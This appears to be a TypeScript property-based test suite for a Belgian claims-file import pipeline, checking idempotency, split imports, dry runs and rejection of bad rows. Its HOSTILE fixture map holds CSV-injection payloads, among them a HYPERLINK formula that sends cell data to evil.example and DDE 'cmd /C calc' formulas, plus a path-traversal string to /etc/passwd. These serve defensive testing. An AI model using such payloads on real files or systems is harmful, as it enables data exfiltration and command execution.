import { fc, test } from "@fast-check/vitest";
import type { CaseEventJson, CaseStore, StoreScope } from "@incasso/core";
import { reminderScenario } from "@incasso/testkit";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect } from "vitest";
import type { ImportProfileInput, ImportReport } from "../../src/index.js";
import { applyImport, dryRunImport, resultFileCsv } from "../../src/index.js";
import {
  BELGIAN_HEADER,
  belgianCasesProfile,
  belgianRow,
  encodeCsv,
  makeXlsx,
} from "../support/fixtures.js";

/** The instant of the imports of the suite (in Brussels: 2 March 2026). */
export const IMPORTED_AT = "2026-03-02T09:00:00Z";

/** A store to run the suite on, made once per test file. */
export interface SuiteStore {
  readonly name: string;
  create(): Promise<CaseStore>;
  dispose?(): Promise<void>;
  /** The import's spill settings: with `afterRows: 0` every row goes through the files. */
  readonly spill?: { readonly afterRows: number; readonly partitions: number };
}

/** A valid Belgian enterprise number (modulo 97) made of a small number. */
export function enterpriseNumber(k: number): string {
  const base = 4_000_000 + k;
  const check = 97 - (base % 97);
  return `${String(base).padStart(8, "0")}${String(check).padStart(2, "0")}`;
}

/** One invoice of a generated file. */
export interface Invoice {
  readonly ref: number;
  readonly debtor: number;
  readonly invoice: number;
  readonly cents: number;
  readonly dueDay: number;
}

/** A claims file as a list of invoices: unique per (ref, invoice), one debtor per case. */
export const invoicesArbitrary = fc
  .uniqueArray(
    fc.record({
      ref: fc.integer({ min: 1, max: 5 }),
      invoice: fc.integer({ min: 1, max: 4 }),
      cents: fc.integer({ min: 1, max: 5_000_000 }),
      dueDay: fc.integer({ min: 1, max: 28 }),
    }),
    { minLength: 1, maxLength: 10, selector: (row) => `${row.ref}/${row.invoice}` },
  )
  .map((rows) => rows.map((row) => ({ ...row, debtor: row.ref % 3 })));

/** The case reference of an invoice's case. */
export const referenceOf = (invoice: Invoice) => `D-2026-${String(invoice.ref).padStart(3, "0")}`;

/** The cells of one invoice for the Belgian profile. */
export function cellsOf(invoice: Invoice): string[] {
  const euros = Math.floor(invoice.cents / 100);
  const cents = String(invoice.cents % 100).padStart(2, "0");
  return belgianRow({
    Dossier: referenceOf(invoice),
    Klantnummer: `K${1000 + invoice.debtor}`,
    Naam: `Klant ${invoice.debtor} BV`,
    Ondernemingsnummer: enterpriseNumber(invoice.debtor),
    Factuur: `F2026-${invoice.ref}-${invoice.invoice}`,
    Vervaldag: `${String(invoice.dueDay).padStart(2, "0")}/01/2026`,
    Factuurdatum: "02/01/2026",
    Openstaand: `${euros},${cents}`,
  });
}

/** A Belgian claims file (windows-1252, `;`) of invoices, with rows replaced as given. */
export function claimsFile(
  invoices: readonly Invoice[],
  replace: ReadonlyMap<number, string[]> = new Map(),
): Uint8Array {
  const rows = invoices.map((invoice, index) => replace.get(index) ?? cellsOf(invoice));
  return encodeCsv([[...BELGIAN_HEADER], ...rows], { encoding: "windows-1252" });
}

/** How a generated claims file is written: a CSV in each encoding the profiles know, or a workbook. */
export const FORMATS = [
  "utf-8",
  "utf-8 with BOM",
  "windows-1252",
  "iso-8859-15",
  "utf-16le with BOM",
  "xlsx",
] as const;

/** One of {@link FORMATS}. */
export type Format = (typeof FORMATS)[number];

/**
 * A claims file of invoices in a format, with the Belgian profile that reads it (the same profile
 * id whatever the format: only the encoding differs, and a workbook's cells are text).
 */
export async function claimsSource(
  invoices: readonly Invoice[],
  format: Format,
  grouping: Grouping = "client-reference",
): Promise<{ source: Uint8Array; profile: ImportProfileInput }> {
  const rows = invoices.map(cellsOf);
  if (format === "xlsx") {
    const source = await makeXlsx([{ name: "Facturen", rows: [[...BELGIAN_HEADER], ...rows] }]);
    return { source, profile: belgianCasesProfile({ sheet: "Facturen", grouping }) };
  }
  const [encoding, bom] = format.split(" with ") as [
    "utf-8" | "windows-1252" | "iso-8859-15" | "utf-16le",
    string | undefined,
  ];
  const source = encodeCsv([[...BELGIAN_HEADER], ...rows], { encoding, bom: bom !== undefined });
  return { source, profile: belgianCasesProfile({ encoding, grouping }) };
}

/** How rows make one case: by the client's reference, the invoice number or the debtor. */
export const GROUPINGS = ["client-reference", "invoice-number", "debtor-id"] as const;

/** One of {@link GROUPINGS}. */
export type Grouping = (typeof GROUPINGS)[number];

/** Every case of the scope with its events, by case id. */
export async function snapshot(
  store: CaseStore,
  scope: StoreScope,
): Promise<Record<string, CaseEventJson[]>> {
  const out: Record<string, CaseEventJson[]> = {};
  let after: string | undefined;
  do {
    const page = await store.listCases(scope, { limit: 1000, ...(after ? { after } : {}) });
    for (const row of page.items) {
      out[row.caseId] = (await store.readEvents(scope, row.caseId)).map((stored) => stored.event);
    }
    after = page.nextCursor ?? undefined;
  } while (after !== undefined);
  return out;
}

/** The debtors and claims of every case as they stand (after corrections), to compare imports. */
export function claimsOf(cases: Record<string, CaseEventJson[]>): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  for (const [caseId, events] of Object.entries(cases)) {
    const claims = new Map<string, Record<string, unknown>>();
    let debtors: string[] = [];
    for (const event of events) {
      if (event.type === "case.opened") debtors = event.debtors.map((debtor) => debtor.id);
      if (event.type === "claim.added") claims.set(event.claim.id, { ...event.claim });
      if (event.type === "claim.corrected") {
        Object.assign(claims.get(event.claimId) ?? {}, event.changes);
      }
    }
    out[caseId] = {
      debtors,
      claims: Object.fromEntries([...claims].sort(([a], [b]) => (a < b ? -1 : 1))),
    };
  }
  return out;
}

/** The part of a report a dry run and an apply share. */
export function planned(report: ImportReport) {
  return {
    stopped: report.stopped,
    rows: report.rows,
    cases: report.cases,
    totals: report.totals,
    ownerSummaries: report.ownerSummaries,
  };
}

/** A bad value for a column of the Belgian file, each a row error of another kind. */
const ROW_ERRORS: readonly (readonly [string, string])[] = [
  ["Vervaldag", "31/02/2026"],
  ["Factuurdatum", "2026-01-05"],
  ["Openstaand", "12,3,4"],
  ["Openstaand", "-5,00"],
  ["Openstaand", "1,234"],
  ["Ondernemingsnummer", "0403.170.702"],
  ["Mededeling", "+++090/9337/55494+++"],
  ["E-mail", "boekhouding at klant.be"],
  ["Naam", ""],
  ["Factuur", ""],
  ["Klantnummer", "=1+1"],
  ["Naam", "Klant\u0000BV"],
  ["Taal", "Klingon"],
];

const HOSTILE: Record<string, string> = {
  formula: '=HYPERLINK("http://evil.example/?"&A1;"click")',
  "plus formula": "+1+cmd|' /C calc'!A0",
  "at formula": "@SUM(1+1)*cmd|' /C calc'!A0",
  path: "../../../etc/passwd",
  "windows path": "C:\\Windows\\System32\\cmd.exe",
  nul: "K1\u0000001",
  "10 MB": "A".repeat(10 * 1024 * 1024),
};

/**
 * The pipeline's laws on one store: every property run imports into a tenant of its own on the
 * store the test file made once.
 */
export function describePipelineSuite(suite: SuiteStore): void {
  describe(`import pipeline on ${suite.name}`, () => {
    let store: CaseStore;
    let tenants = 0;
    beforeAll(async () => {
      store = await suite.create();
    });
    afterAll(async () => {
      await suite.dispose?.();
    });
    const freshScope = async (): Promise<StoreScope> => {
      tenants += 1;
      const scope = { tenantId: `t${tenants}-${Math.random().toString(36).slice(2, 8)}` };
      await store.putClient(scope, { id: "bakkerij", name: "Bakkerij Peeters NV" });
      await store.putScenario(scope, "bakkerij", reminderScenario(1));
      return scope;
    };
    const run = (
      scope: StoreScope,
      source: Uint8Array,
      options: { profile?: ImportProfileInput; dryRun?: boolean; importedAt?: string } = {},
    ) =>
      (options.dryRun ? dryRunImport : applyImport)({
        store,
        scope,
        profile: options.profile ?? belgianCasesProfile(),
        source,
        importedAt: options.importedAt ?? IMPORTED_AT,
        by: "an.peeters",
        ...(suite.spill === undefined ? {} : { spill: suite.spill }),
      });
    const runs = { numRuns: 6 };

    test.prop(
      [invoicesArbitrary, fc.constantFrom(...FORMATS), fc.constantFrom(...GROUPINGS)],
      runs,
    )(
      "a re-import of the same file (CSV in any encoding, or a workbook; rows grouped by any key) is a no-op: nothing is appended and every row is a duplicate",
      async (invoices, format, grouping) => {
        const scope = await freshScope();
        const { source: file, profile } = await claimsSource(invoices, format, grouping);
        const first = await run(scope, file, { profile });
        expect(first.totals.errors).toBe(0);
        expect(first.totals.claimsAdded).toBe(invoices.length);
        const before = await snapshot(store, scope);
        const again = await run(scope, file, { profile, importedAt: "2026-03-09T10:00:00Z" });
        expect(again.applied?.appended).toBe(0);
        expect(again.rows.every((row) => row.outcome === "duplicate")).toBe(true);
        expect(await snapshot(store, scope)).toEqual(before);
      },
    );

    test.prop(
      [
        invoicesArbitrary,
        fc.array(fc.boolean(), { minLength: 10, maxLength: 10 }),
        fc.array(fc.constantFrom(...FORMATS), { minLength: 3, maxLength: 3 }),
        fc.constantFrom(...GROUPINGS),
      ],
      runs,
    )(
      "any split of a file into two imports (each part in any encoding or a workbook; rows grouped by any key) gives the same cases, debtors and claims as one import",
      async (invoices, sides, formats, grouping) => {
        const whole = await freshScope();
        const split = await freshScope();
        const [wholeFormat, firstFormat, secondFormat] = formats as [Format, Format, Format];
        const importOf = async (scope: StoreScope, part: readonly Invoice[], format: Format) => {
          const { source, profile } = await claimsSource(part, format, grouping);
          const report = await run(scope, source, { profile });
          expect(report.totals.errors).toBe(0);
        };
        await importOf(whole, invoices, wholeFormat);
        const first = invoices.filter((_, index) => sides[index]);
        const second = invoices.filter((_, index) => !sides[index]);
        if (first.length > 0) await importOf(split, first, firstFormat);
        if (second.length > 0) await importOf(split, second, secondFormat);
        expect(claimsOf(await snapshot(store, split))).toEqual(
          claimsOf(await snapshot(store, whole)),
        );
        const rows = async (scope: StoreScope) =>
          (await store.listCases(scope, { limit: 1000 })).items.map((row) => ({
            caseId: row.caseId,
            balance: row.balance,
            debtorIds: row.debtorIds,
          }));
        expect(await rows(split)).toEqual(await rows(whole));
      },
    );

    test.prop(
      [
        invoicesArbitrary,
        invoicesArbitrary,
        fc.array(fc.integer({ min: -200_000, max: 200_000 }), { minLength: 10, maxLength: 10 }),
        fc.option(fc.nat({ max: 19 }), { nil: undefined }),
      ],
      runs,
    )(
      "a dry run's report equals what the apply then does, corrections and errors included",
      async (before, more, shifts, broken) => {
        const scope = await freshScope();
        await run(scope, claimsFile(before));
        const corrected = before.map((invoice, index) => ({
          ...invoice,
          cents: Math.max(1, invoice.cents + (shifts[index] ?? 0)),
        }));
        const seen = new Set(corrected.map((i) => `${i.ref}/${i.invoice}`));
        const next = [...corrected, ...more.filter((i) => !seen.has(`${i.ref}/${i.invoice}`))];
        const replace = new Map<number, string[]>();
        if (broken !== undefined) {
          const index = broken % next.length;
          replace.set(
            index,
            cellsOf(next[index] as Invoice).map((cell, column) =>
              BELGIAN_HEADER[column] === "Openstaand" ? "12,3,4" : cell,
            ),
          );
        }
        const file = claimsFile(next, replace);
        const beforeDryRun = await snapshot(store, scope);
        const dry = await run(scope, file, { dryRun: true, importedAt: "2026-03-05T09:00:00Z" });
        expect(await snapshot(store, scope)).toEqual(beforeDryRun);
        const applied = await run(scope, file, { importedAt: "2026-03-05T09:00:00Z" });
        expect(planned(applied)).toEqual(planned(dry));
        const written = applied.cases.filter((c) => c.events > 0).length;
        expect(applied.applied?.appended).toBe(written);
        // The batch is stored with every row's outcome, as the report says.
        const batch = await store.getImportBatch(scope, applied.batchId);
        expect(batch?.rows.map((row) => [row.row, row.outcome === "error"])).toEqual(
          applied.rows.map((row) => [row.row, row.outcome === "error"]),
        );
        const corrections = Object.values(await snapshot(store, scope))
          .flat()
          .filter((event) => event.type === "claim.corrected" && event.at === "2026-03-05");
        expect(corrections).toHaveLength(applied.totals.claimsCorrected);
      },
    );

    test.prop(
      [
        invoicesArbitrary,
        fc.nat(),
        fc.constantFrom(...ROW_ERRORS),
        fc.constantFrom("skip-case" as const, "stop-batch" as const),
      ],
      runs,
    )(
      "no case is ever half-written: a row error of any kind in any row leaves its case (with stop-batch: the whole store) untouched",
      async (invoices, at, [badColumn, badValue], onRowError) => {
        const scope = await freshScope();
        const index = at % invoices.length;
        const bad = invoices[index] as Invoice;
        const replace = new Map([
          [
            index,
            cellsOf(bad).map((cell, column) =>
              BELGIAN_HEADER[column] === badColumn ? badValue : cell,
            ),
          ],
        ]);
        const profile = belgianCasesProfile({ onRowError });
        const report = await run(scope, claimsFile(invoices, replace), { profile });
        const cases = await snapshot(store, scope);
        expect(report.rows.find((row) => row.row === index + 2)?.outcome).toBe("error");
        if (onRowError === "stop-batch") {
          expect(report.stopped).toBe(true);
          expect(cases).toEqual({});
          expect(await store.listImportBatches(scope)).toEqual([]);
          return;
        }
        const good = invoices.filter((invoice) => invoice.ref !== bad.ref);
        expect(Object.keys(cases)).toHaveLength(new Set(good.map((i) => i.ref)).size);
        for (const events of Object.values(cases)) {
          const opened = events[0];
          const reference = opened?.type === "case.opened" ? opened.client.reference : undefined;
          expect(reference).not.toBe(referenceOf(bad));
          const claims = events.filter((event) => event.type === "claim.added");
          expect(claims).toHaveLength(good.filter((i) => referenceOf(i) === reference).length);
        }
      },
    );

    test.prop(
      [
        fc.constantFrom(...Object.keys(HOSTILE)),
        fc.constantFrom("Klantnummer", "Naam", "Openstaand", "Vervaldag", "Factuur"),
        invoicesArbitrary,
        fc.nat(),
        fc.constantFrom("skip-case" as const, "stop-batch" as const),
      ],
      { numRuns: 5 },
    )(
      "a file with hostile cells (formulas, ../ paths, 10 MB cells, NUL bytes) is answered with errors, nothing of the hostile row's case is written (nothing at all when a row was cut), and the result file neutralises every formula",
      async (kind, column, invoices, at, onRowError) => {
        const scope = await freshScope();
        const hostile = HOSTILE[kind] as string;
        const index = at % invoices.length;
        const bad = invoices[index] as Invoice;
        const replace = new Map<number, string[]>();
        replace.set(
          index,
          cellsOf(bad).map((cell, c) => (BELGIAN_HEADER[c] === column ? hostile : cell)),
        );
        const profile = belgianCasesProfile({ onRowError });
        const report = await run(scope, claimsFile(invoices, replace), { profile });
        const row = report.rows.find((candidate) => candidate.row === index + 2);
        expect(row?.outcome).toBe("error");
        expect(report.totals.errors).toBe(1);
        const cases = await snapshot(store, scope);
        // The hostile text is nowhere in the store.
        expect(JSON.stringify(cases)).not.toContain(
          JSON.stringify(hostile.slice(0, 64)).slice(1, -1),
        );
        // A 10 MB cell cuts its row at the record limit: the row's case (and any rows it hid) is
        // unknown, so nothing of the file is written whatever onRowError says.
        const cut = kind === "10 MB";
        if (cut) {
          expect(row?.messages.some((message) => message.en.startsWith("This row was cut"))).toBe(
            true,
          );
        }
        if (onRowError === "stop-batch" || cut) {
          expect(report.stopped).toBe(true);
          expect(cases).toEqual({});
          expect(await store.listImportBatches(scope)).toEqual([]);
        } else {
          const written = Object.values(cases).map((events) => {
            const opened = events[0];
            return opened?.type === "case.opened" ? opened.client.reference : undefined;
          });
          const expected = new Set(invoices.filter((i) => i.ref !== bad.ref).map(referenceOf));
          expect(new Set(written)).toEqual(expected);
        }
        const cells: string[][] = parse(resultFileCsv(report), { delimiter: ";", bom: true });
        expect(cells).toHaveLength(report.rows.length + 1);
        for (const cell of cells.flat()) expect(cell).not.toMatch(/^[ ]*[=+\-@\t\r]/);
      },
    );
  });
}
